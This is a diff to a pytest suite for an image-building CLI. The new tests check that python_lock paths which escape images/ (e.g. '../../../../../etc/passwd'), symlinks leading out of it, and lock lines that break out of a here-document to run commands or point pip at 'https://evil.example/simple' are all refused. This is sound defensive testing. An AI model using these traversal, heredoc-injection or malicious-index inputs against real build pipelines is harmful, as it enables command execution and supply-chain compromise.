@@ -427,38 +427,137 @@ def test_a_stack_reads_its_recipe_for_its_own_cloud_and_the_image_commands_for_e
         assert "'cn-hangzhuo' is not a region of stacks/data/alicloud.yaml" in exc.value.problems[0].message
 
 
-@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]])
+@pytest.fixture
+def images(tmp_path, monkeypatch) -> Path:
+    """An images/ folder of the test's own (a recipe's python_lock is a file under images/): tmp_path/images."""
+    from gpufleet.images import recipes
+
+    folder = tmp_path / "images"
+    (folder / "locks").mkdir(parents=True)
+    monkeypatch.setattr(recipes, "IMAGES", folder)
+    return folder
+
+
+LOCK_COMMANDS = [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]]
+
+
+def _run_lock(capsys, tmp_path, command, python_lock):
+    path = variant(tmp_path, python_lock=python_lock)
+    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
+    return path, run_cli([*command, "-r", path, *extra], capsys)
+
+
+@pytest.mark.parametrize("command", LOCK_COMMANDS)
 @pytest.mark.parametrize("lock", ["folder", "not UTF-8", "empty name"])
-def test_a_python_lock_that_cannot_be_read_is_named_not_a_traceback(capsys, tmp_path, command, lock):
+def test_a_python_lock_that_cannot_be_read_is_named_not_a_traceback(capsys, tmp_path, images, command, lock):
     """python_lock naming a folder or a non-UTF-8 file was an IsADirectoryError / UnicodeDecodeError traceback (exit 1);
     an empty name was read as no lock."""
-    target = tmp_path / "lock.txt"
+    target = images / "locks" / "lock.txt"
     if lock == "folder":
         target.mkdir()
     else:
         target.write_bytes(b"\xff\xfe")
-    path = variant(tmp_path, python_lock="" if lock == "empty name" else str(target))
-    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
-    r = run_cli([*command, "-r", path, *extra], capsys)
+    path, r = _run_lock(capsys, tmp_path, command, "" if lock == "empty name" else "locks/lock.txt")
     said = {"folder": f"{target}: is a folder", "not UTF-8": f"{target}: not UTF-8 text", "empty name": "is empty"}[lock]
     refused(r, f"{path}: recipe.python_lock: {said}")
     assert not (tmp_path / "out").exists()
 
 
-@pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]])
+@pytest.mark.parametrize("command", LOCK_COMMANDS)
 @pytest.mark.parametrize("lock", ["missing", "empty", "comments only"])
-def test_a_python_lock_that_is_missing_or_empty_is_bad_input_and_nothing_is_rendered(capsys, tmp_path, command, lock):
+def test_a_python_lock_that_is_missing_or_empty_is_bad_input_and_nothing_is_rendered(capsys, tmp_path, images, command, lock):
     """A missing python_lock was a failed `image check` (exit 1), and `image render` wrote an install script whose lock
     was empty (exit 0): pip --require-hashes -r on it installs nothing."""
-    target = tmp_path / "lock.txt"
     if lock != "missing":
-        target.write_text("" if lock == "empty" else "# nothing pinned\n\n")
-    path = variant(tmp_path, python_lock=str(target))
-    extra = ["--out-dir", str(tmp_path / "out")] if command[-1] == "render" else []
-    r = run_cli([*command, "-r", path, *extra], capsys)
+        (images / "locks" / "lock.txt").write_text("" if lock == "empty" else "# nothing pinned\n\n")
+    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
     said = "is missing" if lock == "missing" else "holds no requirement"
-    refused(r, f"{path}: recipe.python_lock: {target} {said}; run scripts/lock_image_python.py cuda13-vllm")
+    refused(r, f"{path}: recipe.python_lock: locks/lock.txt {said}; run scripts/lock_image_python.py cuda13-vllm")
     assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("command", LOCK_COMMANDS)
+@pytest.mark.parametrize("lock", ["/etc/hostname", "../../../../../etc/passwd", "locks/../../x.txt", "~/lock.txt"])
+def test_a_python_lock_outside_images_is_refused(capsys, tmp_path, command, lock):
+    """Review F2: python_lock took an absolute path or one climbing out of images/, and render wrote that file's text
+    into the install script (exit 0). The lock is named relative to images/ (docs/images.md)."""
+    path, r = _run_lock(capsys, tmp_path, command, lock)
+    refused(r, f"{path}: recipe.python_lock: {lock!r} is not a path inside images/", "relative to images/, without '..'")
+    assert not (tmp_path / "out").exists()
+
+
+@pytest.mark.parametrize("command", LOCK_COMMANDS)
+def test_a_python_lock_that_is_a_link_out_of_images_is_refused(capsys, tmp_path, images, command):
+    outside = tmp_path / "elsewhere.txt"
+    outside.write_text(SHIPPED_LOCK.read_text())
+    (images / "locks" / "lock.txt").symlink_to(outside)
+    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
+    refused(r, f"{path}: recipe.python_lock: locks/lock.txt is a link that leads out of images/ (to {outside})")
+    assert not (tmp_path / "out").exists()
+
+
+SHIPPED_LOCK = RECIPES.parent / "locks" / "cuda13-vllm.txt"
+HASH = "--hash=sha256:" + "0" * 64
+
+
+@pytest.mark.parametrize("command", LOCK_COMMANDS)
+@pytest.mark.parametrize(
+    "tail, said",
+    [
+        # the here-document's end word, then commands: they ran as root on the builder (review F2)
+        ("GPUFLEET_LOCK\ntouch /tmp/PWNED_LOCK\ncat <<'X'\n", "is not a pip hash lock: lines 406, 407, 408 not name==version"),
+        ("--index-url https://evil.example/simple\n", "is not a pip hash lock: line 406 not name==version"),
+        ("x==1 --hash=sha256:abc\n", "is not a pip hash lock: line 406"),
+        (f"x==1 \\\n  {HASH}  # c \\\ny==2 {HASH}\n", "is not a pip hash lock: line 407"),  # pip joins y into the comment
+        ("x==1\n", "has a requirement without a --hash=sha256: (line 406)"),  # pip --require-hashes refuses it at build
+        ("".join(f"bad{i}\n" for i in range(9)), "is not a pip hash lock: lines 406, 407, 408 and 6 more not"),
+    ],
+    ids=["end-word", "option", "short-hash", "comment-continued", "no-hash", "many"],
+)
+def test_a_python_lock_with_a_line_that_is_not_of_a_hash_lock_is_refused(capsys, tmp_path, images, command, tail, said):
+    (images / "locks" / "lock.txt").write_text(SHIPPED_LOCK.read_text() + tail)
+    path, r = _run_lock(capsys, tmp_path, command, "locks/lock.txt")
+    refused(r, f"{path}: recipe.python_lock: locks/lock.txt {said}", "run scripts/lock_image_python.py cuda13-vllm")
+    assert "PWNED" not in r.text and "evil" not in r.text  # a line is named by its number, not repeated
+    assert not (tmp_path / "out").exists()
+
+
+def test_a_python_lock_without_a_final_newline_still_ends_its_here_document(capsys, tmp_path, images):
+    (images / "locks" / "lock.txt").write_text(SHIPPED_LOCK.read_text().rstrip("\n"))
+    path, r = _run_lock(capsys, tmp_path, ["image", "render"], "locks/lock.txt")
+    assert r.code == 0, r.text
+    script = next((tmp_path / "out").glob("*-python-packages.apply.sh")).read_text()
+    assert heredocs(script) == [SHIPPED_LOCK.read_text()]
+
+
+def heredocs(script: str) -> list[str]:
+    """The bodies of the script's quoted here-documents (<<'WORD'), each read as bash reads it: up to the line WORD."""
+    import re
+
+    out, lines = [], iter(script.split("\n"))
+    for line in lines:
+        if m := re.search(r"<<'(\w+)'", line):
+            body = []
+            for inner in lines:
+                if inner == m.group(1):
+                    break
+                body.append(inner + "\n")
+            out.append("".join(body))
+    return out
+
+
+def test_a_file_with_a_line_equal_to_the_here_document_end_word_is_written_whole(capsys, tmp_path):
+    """A node file (here a recipe's own vllm.service template) with a line GPUFLEET_FILE ended the serving layout's
+    here-document there, and its next lines ran as commands: the end word is one that no line of the text is."""
+    (tmp_path / "tpl" / "node").mkdir(parents=True)
+    unit = "[Unit]\nDescription=x\nGPUFLEET_FILE\nGPUFLEET_FILE_2\n[Service]\nExecStart=/bin/true\n"
+    (tmp_path / "tpl" / "node" / "vllm.service.j2").write_text(unit)
+    path = variant(tmp_path, templates="tpl")
+    r = run_cli(["image", "render", "-r", path, "--out-dir", tmp_path / "out"], capsys)
+    assert r.code == 0, r.text
+    for phase in ("check", "apply"):
+        script = next((tmp_path / "out").glob(f"*-serving-layout.{phase}.sh")).read_text()
+        assert unit in heredocs(script), phase
 
 
 @pytest.mark.parametrize("command", [["image", "check"], ["image", "build", "--dry-run"], ["image", "render"]])
